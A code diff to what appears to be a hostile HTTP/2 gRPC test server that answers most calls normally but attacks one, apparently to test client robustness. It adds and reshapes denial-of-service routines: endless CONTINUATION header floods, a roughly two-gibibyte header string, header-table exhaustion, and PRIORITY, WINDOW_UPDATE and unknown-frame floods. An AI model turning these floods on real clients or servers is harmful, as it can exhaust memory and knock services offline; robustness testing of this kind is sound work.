@@ -10,12 +10,13 @@ second call that it gets is attacked, all others are answered: so one client can
 during and after. An attack goes on until the client ends the call or the connection.
 """
 
+import collections
 import itertools
 import pathlib
 import select
+import socket
 import struct
 import sys
-import threading
 import zlib
 from collections.abc import Callable, Iterator
 
@@ -44,24 +45,25 @@ FRAME_SIZE = 16384  # the most that a frame may have unless the peer allows more
 RESPONSE = literals((":status", "200"), ("content-type", "application/grpc"))
 
 
-class Over(Exception):
+class CallEndedError(Exception):
     """The client has ended the call that was attacked."""
 
 
 class Attacker(Connection):
     """Keeps within the windows that the client gives: more would end the connection."""
 
-    def __init__(self, sock: "raw_server.socket.socket") -> None:
+    def __init__(self, sock: socket.socket) -> None:
         super().__init__(sock)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.stream = 0  # of the call that is attacked
         self.first_window = 65535
-        self.given = {0: 65535}  # and what was sent, by stream; 0 is the connection
-        self.sent = 0
+        self.windows = collections.Counter({0: 65535})  # by stream, without the first; 0 for all
+        self.in_block = False
 
     def next_frame(self) -> tuple[int, int, int, bytes]:
         kind, flags, stream, payload = super().next_frame()
         if kind == WINDOW_UPDATE:
-            self.given[stream] = self.given.get(stream, 0) + int.from_bytes(payload, "big")
+            self.windows[stream] += int.from_bytes(payload, "big")
         elif kind == SETTINGS and not flags & ACK:
             initial_window = 4
             for name, value in struct.iter_unpack(">HI", payload):
@@ -75,7 +77,7 @@ class Attacker(Connection):
             block = False
             kind, flags, stream, payload = self.next_frame()
             if kind == RST_STREAM and stream == self.stream:
-                raise Over
+                raise CallEndedError
             if kind == SETTINGS and not flags & ACK:
                 self.send(frame(SETTINGS, ACK, 0))
             elif kind == PING and not flags & ACK:
@@ -83,25 +85,25 @@ class Attacker(Connection):
 
     def window(self) -> int:
         """How many bytes of DATA may be sent."""
-        stream = self.first_window + self.given.get(self.stream, 0)
-        return min(stream, self.given[0]) - self.sent
+        return min(self.windows[0], self.first_window + self.windows[self.stream])
 
-    def room(self, least: int) -> int:
-        """The same, once it is so much."""
+    def room(self) -> int:
+        """The same, once it is not 0."""
         self.take(block=False)
-        while self.window() < least:
+        while self.window() <= 0:
             self.take(block=True)
         return self.window()
 
     def send_data(self, frames: bytes, size: int) -> None:
         self.send(frames)
-        self.sent += size
+        self.windows[0] -= size
+        self.windows[self.stream] -= size
 
     def data(self, payload: bytes) -> None:
         """Sends all of it, as the windows allow."""
         at = 0
         while at < len(payload):
-            size = min(FRAME_SIZE, self.room(1), len(payload) - at)
+            size = min(FRAME_SIZE, self.room(), len(payload) - at)
             self.send_data(frame(DATA, 0, self.stream, payload[at : at + size]), size)
             at += size
 
@@ -113,6 +115,18 @@ class Attacker(Connection):
 
     def begin(self, *more: tuple[str, str]) -> None:
         self.headers(self.stream, *more)
+
+    def begin_block(self, block: bytes = RESPONSE, flags: int = 0) -> None:
+        """Headers that go on in CONTINUATION frames; nothing else may be sent before they end."""
+        self.in_block = True
+        self.send(frame(HEADERS, flags, self.stream, block))
+
+    def answer(self, stream: int) -> None:
+        """A good answer, once there is room for it."""
+        self.stream = stream
+        self.begin()
+        self.data(message(REPLY))
+        self.trailers(stream)
 
 
 Attack = Callable[[Attacker], None]
@@ -145,7 +159,7 @@ def sends(make: Callable[[], bytes], encoding: str = "", *, good_first: bool = F
     def attack(client: Attacker) -> None:
         client.begin(*([("grpc-encoding", encoding)] if encoding else []))
         if good_first:
-            client.reply(client.stream)
+            client.data(message(REPLY))
         client.data(message(make(), compressed=1))
         client.trailers(client.stream)
 
@@ -164,10 +178,13 @@ def huge(client: Attacker) -> None:
 def tiny_frames(client: Attacker) -> None:
     """A message that comes byte by byte, each in a frame."""
     client.begin()
-    client.data(struct.pack(">BI", 0, MEBIBYTE))
-    while True:
-        count = min(1000, client.room(1))
+    left = 4 * MEBIBYTE
+    client.data(struct.pack(">BI", 0, left))
+    while left > 0:
+        count = min(1000, left, client.room())
         client.send_data(frame(DATA, 0, client.stream, b"x") * count, count)
+        left -= count
+    client.trailers(client.stream)
 
 
 def empty_messages(client: Attacker) -> None:
@@ -180,7 +197,7 @@ def endless_string(client: Attacker) -> None:
     """A header's value that never ends, in one CONTINUATION after the other."""
     length = b"\x7f" + b"\xff\xff\xff\xff\x07"  # two gibibytes or so
     block = RESPONSE + b"\x00" + b"\x01x" + length
-    client.send(frame(HEADERS, 0, client.stream, block))
+    client.begin_block(block)
     client.flood(frame(CONTINUATION, 0, client.stream, b"x" * FRAME_SIZE))
 
 
@@ -190,13 +207,13 @@ def fields(count: int) -> bytes:
 
 def endless_fields(client: Attacker) -> None:
     """Fields without end, in one CONTINUATION after the other."""
-    client.send(frame(HEADERS, 0, client.stream, RESPONSE))
+    client.begin_block()
     client.flood(frame(CONTINUATION, 0, client.stream, fields(100)))
 
 
 def endless_table(client: Attacker) -> None:
     """The same with names that are all different, for the table of the compression of headers."""
-    client.send(frame(HEADERS, 0, client.stream, RESPONSE))
+    client.begin_block()
     for number in itertools.count():
         client.take(block=False)
         block = literals(*((f"x-{number}-{field}", "y" * 100) for field in range(100)))
@@ -205,23 +222,24 @@ def endless_table(client: Attacker) -> None:
 
 
 def empty_continuations(client: Attacker) -> None:
-    client.send(frame(HEADERS, 0, client.stream, RESPONSE))
+    client.begin_block()
     client.flood(frame(CONTINUATION, 0, client.stream) * 1000)
 
 
 def large_headers(client: Attacker) -> None:
-    client.send(frame(HEADERS, 0, client.stream, RESPONSE))
+    client.begin_block()
     for _ in range(64):
         client.send(frame(CONTINUATION, 0, client.stream, fields(100)))
     client.send(frame(CONTINUATION, END_HEADERS, client.stream))
-    client.reply(client.stream)
+    client.in_block = False
+    client.data(message(REPLY))
     client.trailers(client.stream)
 
 
 def endless_trailers(client: Attacker) -> None:
     client.begin()
-    client.reply(client.stream)
-    client.send(frame(HEADERS, END_STREAM, client.stream, literals(("grpc-status", "0"))))
+    client.data(message(REPLY))
+    client.begin_block(literals(("grpc-status", "0")), END_STREAM)
     client.flood(frame(CONTINUATION, 0, client.stream, fields(100)))
 
 
@@ -231,20 +249,6 @@ def floods(make: Callable[[int], bytes]) -> Attack:
         client.flood(make(client.stream))
 
     return attack
-
-
-def padded(stream: int) -> bytes:
-    padding = 255
-    has_padding = 8
-    return frame(DATA, has_padding, stream, bytes([padding]) + bytes(padding))
-
-
-def floods_with_padding(client: Attacker) -> None:
-    client.begin()
-    size = len(padded(0)) - 9
-    while True:
-        client.room(size)
-        client.send_data(padded(client.stream), size)
 
 
 def broken() -> bytes:
@@ -281,27 +285,26 @@ ATTACKS: dict[str, Attack] = {
     "priority-flood": floods(lambda stream: frame(PRIORITY, 0, stream, bytes(5)) * 1000),
     "window-flood": floods(lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000),
     "unknown-flood": floods(lambda stream: frame(200, 0, stream, bytes(1000)) * 16),
-    "padding-flood": floods_with_padding,
 }
 
 
 def serve(attack: Attack, calls: Iterator[int], connection: Connection) -> None:
+    attacked = 1
     client = Attacker(connection.sock)
     client.greet()
-    while True:
+    while not client.in_block:
         client.stream = client.next_call()
-        if next(calls) != 1:
-            raw_server.answers(client, client.stream)
-            continue
         try:
-            attack(client)
-        except Over:
+            if next(calls) == attacked:
+                attack(client)
+            else:
+                client.answer(client.stream)
+        except CallEndedError:
             pass
 
 
 def main() -> None:
     calls = itertools.count()
-    lock = threading.Lock()
     raw_server.main(
         {
             name: lambda connection, attack=attack: serve(attack, calls, connection)
